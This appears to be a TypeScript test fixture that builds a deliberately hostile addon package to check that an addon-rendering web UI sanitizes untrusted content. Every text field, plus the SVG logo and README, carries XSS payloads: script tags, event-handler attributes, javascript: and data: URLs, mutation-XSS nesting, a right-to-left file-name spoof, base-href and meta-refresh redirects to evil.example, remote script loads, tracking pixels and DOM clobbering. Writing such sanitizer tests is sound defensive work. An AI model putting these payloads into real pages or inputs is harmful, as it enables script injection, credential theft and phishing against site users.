/** An addon whose every text tries to run this JavaScript in the page that shows it, or to load or cover something. */
export function hostileAddon(act: string): Readonly<Record<string, string>> {
  const root = 'addons/hostile'
  const inline = `"'><script>${act}</script><img src=x onerror="${act}"><style>*{display:none}</style>`
  return {
    [`${root}/metadata.yaml`]: [
      'name: hostile',
      'version: 1.0.0',
      `description: ${JSON.stringify(`</title></style></textarea>${inline} \u202egnp.exe`)}`,
      `icon: ${JSON.stringify(`javascript:${act}`)}`,
      `url: ${JSON.stringify(`javascript:${act}`)}`,
      `tags: [${JSON.stringify(inline)}, ${JSON.stringify(`" onmouseover="${act}`)}]`,
      'system:',
      `  vela: ${JSON.stringify(`>=1.0.0 ${inline}`)}`,
      'dependencies:',
      `  - name: ${JSON.stringify(inline)}`,
      '',
    ].join('\n'),
    [`${root}/template.yaml`]:
      'apiVersion: core.oam.dev/v1beta1\nkind: Application\nspec: {components: []}\n',
    [`${root}/parameter.cue`]: [
      'parameter: {',
      `  // +usage=${inline}`,
      `  ${JSON.stringify(inline)}: *${JSON.stringify(inline)} | string`,
      '}',
      '',
    ].join('\n'),
    [`${root}/definitions/bad.yaml`]: [
      'apiVersion: core.oam.dev/v1beta1',
      'kind: ComponentDefinition',
      'metadata:',
      '  name: bad',
      '  annotations:',
      `    definition.oam.dev/description: ${JSON.stringify(inline)}`,
      'spec: {}',
      '',
    ].join('\n'),
    [`${root}/CHANGELOG.md`]: `# 1.0.0\n\n${inline}\n`,
    [`${root}/logo.svg`]: `<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"><script>${act}</script><image href="https://tracker.example/x.png"/><rect width="9" height="9"/></svg>`,
    [`${root}/README.md`]: readme(act, inline),
  }
}

// The classes of attack of OWASP's list for filters, as a README can hold them.
function readme(act: string, inline: string): string {
  return `# ${inline}

<script>${act}</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<img src=x onerror="${act}">
<img src="javascript:${act}">
<svg onload="${act}"><script>${act}</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${act}"></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>parent.${act}</script>"></iframe>
<object data="data:text/html,<script>${act}</script>"></object>
<form action="javascript:${act}"><button>go</button><input autofocus onfocus="${act}"></form>
<details open ontoggle="${act}"><summary onclick="${act}">open</summary>inside</details>
<a href="javascript:${act}">one</a> <a href=" java\tscript:${act}">two</a> <a href="data:text/html,<script>${act}</script>">three</a>
<a href="vbscript:${act}" onclick="${act}" target="_parent" style="position:fixed;inset:0">four</a>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>.overview{display:none} @import "https://evil.example/y.css";</style>
<p style="position:fixed;inset:0;background:url(https://tracker.example/z.png)" class="card unseen" id="search">covers</p>
<div id="content" name="search"></div><form id="found"></form><img name="getElementById" src="https://tracker.example/p.png">
<video src="https://tracker.example/v.mp4" autoplay onerror="${act}"></video>
<template><script>${act}</script></template>
<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>
<!--><img src=x onerror=${act}>-->
<li>alone</li><td>cell</td><h6>deep</h6><h1></h1><a href="https://example.com"></a>

[five](javascript:${act}) [six](<javascript:${act}>) ![seven](javascript:${act}) [eight](data:text/html;base64,PHNjcmlwdD4=)
![tracked](https://tracker.example/pixel.png "${act}") <javascript:${act}> [nine]: javascript:${act}

[ten][ref]

[ref]: javascript:${act} "x"

| a | ${'`'}<script>${act}</script>${'`'} |
| - | - |
| <img src=x onerror="${act}"> | |

- [ ] task <input type="checkbox" onclick="${act}">

Note[^1]

[^1]: <b onmouseover="${act}">footnote</b>
`
}
